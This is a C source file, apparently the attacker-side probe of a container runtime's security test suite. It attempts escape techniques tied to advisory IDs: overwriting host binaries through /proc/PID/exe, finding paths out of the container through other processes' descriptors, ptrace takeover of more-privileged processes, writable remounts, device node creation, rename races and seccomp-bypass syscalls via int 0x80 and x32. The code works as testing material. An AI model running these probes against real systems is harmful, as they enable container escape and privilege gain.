/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attacker's side: runs inside a container (or beside the runtime, for the races) and tries what the advisories
 * describe. It prints what it reached, one fact a line; the test judges.
 *
 *	probe overwrite SECONDS    hold every foreign /proc/PID/exe, at least one, then open it for writing (V01)
 *	probe steal SECONDS        look through /proc/PID/fd, cwd and root of every newcomer, until there is a file /stop, and trace
 *	                           those that may do more than we (V02)
 *	probe notify TEXT          send it to NOTIFY_SOCKET
 *	probe reap                 wait for all children
 *	probe remount FILE         clone FILE's mount writable (V01)
 *	probe exe-flags FILE       is its mount or its memory read-only?
 *	probe device T MAJ MIN     make a node and open it (V12)
 *	probe read FILE            can it be read? (V14)
 *	probe swap A B             exchange two names until killed (V03, V05, V06, V08, V17)
 *	probe syscalls             call what no guest needs (V35)
 *	probe pause MS             wait
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define HELD_MAX 512
#ifndef PATIENCE_S
#define PATIENCE_S 120 /* nothing waits longer for what should come */
#endif

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Descriptors of programs that are not ours, one for each inode and mount. */
static int held[HELD_MAX];
static int held_pid[HELD_MAX];
static int held_count;

static void hold_exe(const char *pid, const struct stat *own)
{
	char path[300];
	struct stat st;
	int fd;

	for (int i = 0; i < held_count; i++)
		if (held_pid[i] == atoi(pid))
			return;
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (fstat(fd, &st) < 0 || (st.st_ino == own->st_ino && st.st_dev == own->st_dev) || held_count == HELD_MAX) {
		close(fd);
		return;
	}
	held_pid[held_count] = atoi(pid);
	held[held_count++] = fd;
}

static int overwrite(double seconds)
{
	const double begin = now();
	struct stat own;
	int refused[256] = {};
	int written = 0;

	if (stat("/proc/self/exe", &own) < 0)
		return 1;
	while ((now() < begin + seconds || !held_count) && now() < begin + PATIENCE_S && held_count < HELD_MAX) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d)))
			if (e->d_name[0] > '0' && e->d_name[0] <= '9')
				hold_exe(e->d_name, &own);
		if (d)
			closedir(d);
	}
	printf("held %d\n", held_count);
	fflush(stdout);
	for (int i = 0; i < held_count; i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		/* Those who ran it end: then nothing says "text file busy" any more. */
		while ((fd = open(path, O_WRONLY | O_APPEND)) < 0 && errno == ETXTBSY && now() < begin + PATIENCE_S)
			usleep(20000);
		if (fd >= 0 && write(fd, "\n#overwritten", 13) == 13)
			written++;
		else
			refused[errno & 255]++;
	}
	printf("written %d\n", written);
	for (int i = 0; i < 256; i++)
		if (refused[i])
			printf("refused %s %d\n", strerrorname_np(i), refused[i]);
	return 0;
}

/* What leads out of here: a directory in which the test's marker lies. */
static int leads_out(int dir)
{
	static const char *const up[] = {"host-marker", "../host-marker", "../../host-marker", "../../../host-marker"};

	for (size_t i = 0; i < sizeof(up) / sizeof(up[0]); i++)
		if (faccessat(dir, up[i], F_OK, 0) == 0)
			return 1;
	return 0;
}

static int try_link(const char *pid, const char *what, int *opened)
{
	char path[300];
	int out = 0;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/%s", pid, what);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return 0;
	(*opened)++;
	out = leads_out(fd);
	close(fd);
	return out;
}

/* What a process may do, as a bit mask; 0 when it has gone. */
static uint64_t permitted(const char *pid)
{
	char path[300];
	char line[256];
	uint64_t caps = 0;
	FILE *f;

	snprintf(path, sizeof(path), "/proc/%s/status", pid);
	f = fopen(path, "re");
	while (f && fgets(line, sizeof(line), f))
		if (strncmp(line, "CapPrm:", 7) == 0)
			caps = strtoull(line + 7, NULL, 16);
	if (f)
		fclose(f);
	return caps;
}

/* Rights in another user namespace than ours are none over what is ours. */
static int in_our_userns(const char *pid)
{
	char path[300];
	struct stat a;
	struct stat b;

	snprintf(path, sizeof(path), "/proc/%s/ns/user", pid);
	return stat(path, &a) == 0 && stat("/proc/self/ns/user", &b) == 0 && a.st_ino == b.st_ino;
}

/* Has somebody who may do more than we come under our control? Then its rights are ours. */
static int take_over(const char *pid, uint64_t own)
{
	if ((permitted(pid) & ~own) == 0 || !in_our_userns(pid) || ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) < 0)
		return 0;
	ptrace(PTRACE_INTERRUPT, atoi(pid), NULL, NULL);
	waitpid(atoi(pid), NULL, __WALL);
	ptrace(PTRACE_DETACH, atoi(pid), NULL, NULL);
	return 1;
}

static int steal(double seconds)
{
	const double begin = now();
	int seen = 0;
	int opened = 0;
	int out = 0;
	int taken = 0;
	const uint64_t own = permitted("self");
	char self[16];

	snprintf(self, sizeof(self), "%d", getpid());
	while ((now() < begin + seconds || access("/stop", F_OK) < 0) && now() < begin + PATIENCE_S) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			if (e->d_name[0] <= '0' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0 ||
			    strcmp(e->d_name, "1") == 0)
				continue;
			seen++;
			taken += take_over(e->d_name, own);
			out += try_link(e->d_name, "cwd", &opened) + try_link(e->d_name, "root", &opened);
			for (int fd = 3; fd < 24; fd++) {
				char name[16];

				snprintf(name, sizeof(name), "fd/%d", fd);
				out += try_link(e->d_name, name, &opened);
			}
		}
		if (d)
			closedir(d);
	}
	printf("seen %d\nopened %d\nout %d\ntaken %d\n", seen, opened, out, taken);
	return 0;
}

/* Could it be written, were nobody running it? */
static void exe_flags(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	int seals = fcntl(fd, F_GET_SEALS);
	struct statvfs v;

	if (seals >= 0 && (seals & F_SEAL_WRITE))
		printf("seals write\n");
	else if (fstatvfs(fd, &v) == 0)
		printf("flags %s\n", v.f_flag & ST_RDONLY ? "ro" : "rw");
	close(fd);
}

static int remount(const char *path)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	int tree = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
	char name[64];
	int out;

	printf("clone %s\n", tree < 0 ? strerrorname_np(errno) : "ok");
	if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)) < 0)
		printf("setattr %s\n", strerrorname_np(errno));
	else
		printf("setattr ok\n");
	if (tree >= 0 && syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof(attr)) == 0)
		printf("clone-setattr ok\n");
	snprintf(name, sizeof(name), "/proc/self/fd/%d", tree >= 0 ? tree : fd);
	out = open(name, O_WRONLY);
	/* The file that runs is busy, which says that nothing else stood in the way. */
	printf("write %s\n", out < 0 ? strerrorname_np(errno) : "ok");
	exe_flags(name);
	return 0;
}

static int device(const char *type, const char *maj, const char *min)
{
	const char *path = "/tmp/node";
	mode_t mode = type[0] == 'b' ? S_IFBLK : S_IFCHR;
	int fd;

	if (mknod(path, mode | 0666, makedev((unsigned)atoi(maj), (unsigned)atoi(min))) < 0) {
		printf("mknod %s\n", strerrorname_np(errno));
		return 0;
	}
	fd = open(path, O_RDONLY | O_NONBLOCK);
	printf("mknod ok\nopen %s\n", fd < 0 ? strerrorname_np(errno) : "ok");
	unlink(path);
	return 0;
}

static int read_file(const char *path)
{
	int fd = open(path, O_RDONLY);

	printf("read %s\n", fd < 0 ? strerrorname_np(errno) : "ok");
	return 0;
}

static int swap(const char *a, const char *b)
{
	for (unsigned i = 0;; i++) {
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0 && errno != ENOENT)
			return 1;
		/* Uneven pauses: a steady rhythm could fall into step with the victim. */
		if (i % 7 == 0)
			sched_yield();
		if (i % 31 == 0)
			usleep(i % 13 * 10);
	}
}

static void said(const char *name, long r)
{
	printf("%s %s\n", name, r >= 0 ? "ok" : strerrorname_np(errno));
	fflush(stdout);
}

#ifdef __x86_64__
/* The same door by the old gate: "int 0x80" with the numbers of 32-bit x86. */
static long int80(long nr, long a, long b, long c)
{
	long r;

	__asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	if (r < 0 && r > -4096) {
		errno = (int)-r;
		return -1;
	}
	return r;
}

/* In a child: without the old gate the instruction is a fault, and a filter may kill. */
static void said_apart(const char *name, long (*call)(long, long, long, long), long nr, long a, long b, long c)
{
	int status = 0;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		said(name, call(nr, a, b, c));
		_exit(0);
	}
	waitpid(pid, &status, 0);
	if (WIFSIGNALED(status))
		printf("%s signal-%d\n", name, WTERMSIG(status));
}

static void said_int80(const char *name, long nr, long a, long b, long c)
{
	said_apart(name, int80, nr, a, b, c);
}

static long x32(long nr, long a, long b, long c)
{
	return syscall(0x40000000 + nr, a, b, c);
}

static void other_gates(void)
{
	/* What a 32-bit call points to must lie below 4 GiB. */
	uint32_t *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);

	if (low == MAP_FAILED)
		return;
	low[0] = 38; /* AF_ALG */
	low[1] = SOCK_SEQPACKET;
	low[2] = 0;
	low[4] = 40; /* AF_VSOCK */
	low[5] = SOCK_STREAM;
	low[6] = 0;
	low[8] = AF_UNIX;
	low[9] = SOCK_STREAM;
	low[10] = 0;
	said_int80("i386:socketcall-AF_ALG", 102, 1, (long)low, 0);
	said_int80("i386:socketcall-AF_VSOCK", 102, 1, (long)(low + 4), 0);
	said_int80("i386:socketcall-AF_UNIX", 102, 1, (long)(low + 8), 0);
	said_int80("i386:socket-AF_ALG", 359, 38, SOCK_SEQPACKET, 0);
	said_int80("i386:bpf", 357, 0, 0, 0);
	said_int80("i386:keyctl", 288, 0, -3, 0);
	said_int80("i386:userfaultfd", 374, 1, 0, 0);
	said_int80("i386:io_uring_setup", 425, 1, 0, 0);
	said_int80("i386:open_tree", 428, -100, 0, 0);
	said_int80("i386:getpid", 20, 0, 0, 0);
	said_int80("i386:socket-AF_UNIX", 359, AF_UNIX, SOCK_STREAM, 0);
	said_apart("x32:getpid", x32, SYS_getpid, 0, 0, 0);
	said_apart("x32:bpf", x32, SYS_bpf, 0, 0, 0);
	said_apart("x32:keyctl", x32, SYS_keyctl, 0, -3, 0);
	said_apart("x32:io_uring_setup", x32, SYS_io_uring_setup, 1, 0, 0);
}
#else
static void other_gates(void)
{
}
#endif

/* The arguments are such that a kernel that is asked answers with anything but EPERM and ENOSYS. */
static int syscalls(void)
{
	char attr[128] = {};
	char params[256] = {};

	((uint32_t *)attr)[0] = 1; /* PERF_TYPE_SOFTWARE */
	((uint32_t *)attr)[1] = 64;
	said("io_uring_setup", syscall(SYS_io_uring_setup, 1, params));
	said("io_uring_enter", syscall(SYS_io_uring_enter, -1, 0, 0, 0, NULL, 0));
	said("io_uring_register", syscall(SYS_io_uring_register, -1, 0, NULL, 0));
	said("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0));
	said("add_key", syscall(SYS_add_key, "user", "probe", "x", 1, -3));
	said("request_key", syscall(SYS_request_key, "user", "probe", NULL, 0));
	said("userfaultfd", syscall(SYS_userfaultfd, 1 /* UFFD_USER_MODE_ONLY */));
	said("bpf", syscall(SYS_bpf, 5 /* BPF_PROG_LOAD */, NULL, 0));
	said("perf_event_open", syscall(SYS_perf_event_open, attr, 0, -1, -1, 0));
	said("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 0));
	said("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
	said("fsconfig", syscall(SYS_fsconfig, -1, 0, NULL, NULL, 0));
	said("fsmount", syscall(SYS_fsmount, -1, 0, 0));
	said("fspick", syscall(SYS_fspick, AT_FDCWD, "/", 0));
	said("move_mount", syscall(SYS_move_mount, -1, "", -1, "", 0));
	said("mount_setattr", syscall(SYS_mount_setattr, -1, "", 0, NULL, 0));
	said("AF_ALG", socket(38, SOCK_SEQPACKET, 0));
	said("AF_VSOCK", socket(40, SOCK_STREAM, 0));
	said("AF_UNIX", socket(AF_UNIX, SOCK_STREAM, 0));
	said("getpid", syscall(SYS_getpid));
	other_gates();
	return 0;
}

static int notify(const char *text)
{
	struct sockaddr_un addr = {.sun_family = AF_UNIX};
	const char *path = getenv("NOTIFY_SOCKET");
	int sock = socket(AF_UNIX, SOCK_DGRAM, 0);

	if (!path)
		return 3;
	snprintf(addr.sun_path, sizeof(addr.sun_path), "%s", path);
	return sendto(sock, text, strlen(text), 0, (struct sockaddr *)&addr, sizeof(addr)) < 0;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "";

	if (strcmp(verb, "overwrite") == 0 && argc == 3)
		return overwrite(atof(argv[2]));
	if (strcmp(verb, "steal") == 0 && argc == 3)
		return steal(atof(argv[2]));
	if (strcmp(verb, "remount") == 0 && argc == 3)
		return remount(argv[2]);
	if (strcmp(verb, "exe-flags") == 0 && argc == 3) {
		exe_flags(argv[2]);
		return 0;
	}
	if (strcmp(verb, "device") == 0 && argc == 5)
		return device(argv[2], argv[3], argv[4]);
	if (strcmp(verb, "read") == 0 && argc == 3)
		return read_file(argv[2]);
	if (strcmp(verb, "swap") == 0 && argc == 4)
		return swap(argv[2], argv[3]);
	if (strcmp(verb, "syscalls") == 0)
		return syscalls();
	if (strcmp(verb, "pause") == 0 && argc == 3)
		return usleep((useconds_t)atoi(argv[2]) * 1000);
	if (strcmp(verb, "notify") == 0 && argc == 3)
		return notify(argv[2]);
	if (strcmp(verb, "reap") == 0) {
		while (wait(NULL) > 0)
			;
		return 0;
	}
	fprintf(stderr, "probe: unknown verb\n");
	return 2;
}
